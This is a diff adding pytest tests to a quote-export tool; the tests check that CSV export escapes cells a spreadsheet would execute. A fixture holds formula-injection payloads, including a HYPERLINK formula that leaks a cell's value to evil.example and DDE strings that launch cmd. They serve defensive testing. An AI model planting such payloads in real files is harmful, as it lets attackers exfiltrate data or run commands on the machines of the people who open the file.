@@ -168,6 +168,51 @@ def test_export_has_every_quote_with_state_amounts_dates_actors_and_chorus(
     assert [{k: str(v) for k, v in r.items()} for r in rows] == as_csv
 
 
+HOSTILE = {
+    "supplier": '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
+    "object": "+cmd|' /C calc'!A0",
+    "refusal_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_and_json_keeps_them_raw(
+        database: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """A supplier typed as `=HYPERLINK(…)` is exported as text (`'=HYPERLINK(…)`) in CSV, raw in JSON;
+    amounts stay numbers."""
+    incubot(capsys, "demo")
+    engine = sa.create_engine(database)
+    with engine.begin() as conn:
+        reference = conn.execute(sa.text("SELECT reference FROM quote WHERE status = 'refused'")).scalars().first()
+        conn.execute(sa.text("UPDATE quote SET supplier = :supplier, object = :object, refusal_reason = :refusal_reason"
+                             " WHERE reference = :reference"), {**HOSTILE, "reference": reference})
+        conn.execute(sa.text("UPDATE quote SET supplier = '-2+3', object = ' =1+1' WHERE reference <> :reference"),
+                     {"reference": reference})
+    engine.dispose()
+    as_json = {r["reference"]: r for r in exported(capsys, "json")}
+    as_csv = {r["reference"]: r for r in exported(capsys, "csv")}
+    for key, value in HOSTILE.items():
+        assert as_json[reference][key] == value
+        assert as_csv[reference][key] == "'" + value
+    for ref, row in as_csv.items():
+        if ref != reference:
+            assert row["supplier"] == "'-2+3" and row["object"] == "' =1+1"
+        assert re.fullmatch(r"\d+\.\d\d", row["amount_ttc"]), row["amount_ttc"]
+        assert row["amount_ttc"] == as_json[ref]["amount_ttc"]
+
+
+@pytest.mark.parametrize(("cell", "safe"), [
+    ("=1+1", "'=1+1"), ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1+1", "'  =1+1"),
+    ("-12.50", "-12.50"), ("-1500000.00", "-1500000.00"), ("12.50", "12.50"), ("0", "0"), (42, "42"), (None, ""),
+    ("Scopyleft", "Scopyleft"), ("a=b", "a=b"), ("", ""),
+])
+def test_a_csv_cell_is_text_a_spreadsheet_never_runs(cell: object, safe: str) -> None:
+    """Leading =, +, -, @, tab, CR get a leading apostrophe (OWASP); a plain number, negative too, stays a number."""
+    from handlers.export import spreadsheet_cell
+
+    assert spreadsheet_cell(cell) == safe
+
+
 def test_export_of_an_empty_database_is_a_header(database: str, capsys: pytest.CaptureFixture[str]) -> None:
     """No quote yet: CSV is just a header, JSON an empty list."""
     assert exported(capsys, "json") == []
